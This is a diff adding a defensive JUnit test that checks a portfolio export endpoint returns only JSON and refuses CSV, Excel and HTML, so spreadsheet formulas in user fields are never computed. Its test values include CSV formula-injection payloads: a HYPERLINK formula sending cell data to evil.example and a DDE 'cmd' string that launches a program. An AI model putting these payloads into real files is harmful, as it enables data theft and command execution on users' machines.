@@ -77,6 +77,46 @@ class ExportControllerTests {
 					""");
 	}
 
+	/**
+	 * A spreadsheet computes what begins with one of these characters, if it opens a CSV
+	 * file. There is none: the export is JSON, whatever is asked for, and its name holds
+	 * nothing that somebody wrote.
+	 */
+	@ParameterizedTest
+	@ValueSource(strings = { "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+			"\tfoo", "|calc" })
+	void handsOutNothingThatASpreadsheetComputes(String formula) throws Exception {
+		UUID portfolio = importFile(this.user, "a.csv",
+				("date,type,symbol,quantity,unitPrice,currency,account,comment\n2006-01-03,buy,MSFT,1,26.84,USD,"
+						+ quoted(formula) + "," + quoted(formula) + "\n")
+					.getBytes(StandardCharsets.UTF_8));
+		for (String type : new String[] { "*/*", "application/json" }) {
+			MvcTestResult result = export(portfolio, type);
+			assertThat(result).hasStatusOk()
+				.hasContentType("application/json")
+				.hasHeader("Content-Disposition", "attachment; filename=\"portfolio-2007-12-31.json\"")
+				.hasHeader("X-Content-Type-Options", "nosniff")
+				.bodyJson()
+				.extractingPath("$.activities[0].comment")
+				.isEqualTo(formula.strip());
+		}
+		for (String type : new String[] { "text/csv", "application/vnd.ms-excel", "text/html" }) {
+			assertThat(export(portfolio, type)).hasStatus(HttpStatus.NOT_ACCEPTABLE);
+		}
+	}
+
+	private static String quoted(String text) {
+		return '"' + text.replace("\"", "\"\"") + '"';
+	}
+
+	private MvcTestResult export(UUID portfolio, String type) {
+		return this.mvc.get()
+			.uri("/api/portfolios/" + portfolio + "/export")
+			.header("Accept", type)
+			.with(Users.signedIn(this.user))
+			.exchange();
+	}
+
 	@Test
 	void doesNotHandOutThePortfolioOfAnother() {
 		UUID portfolio = importFile(this.user, "a.csv",
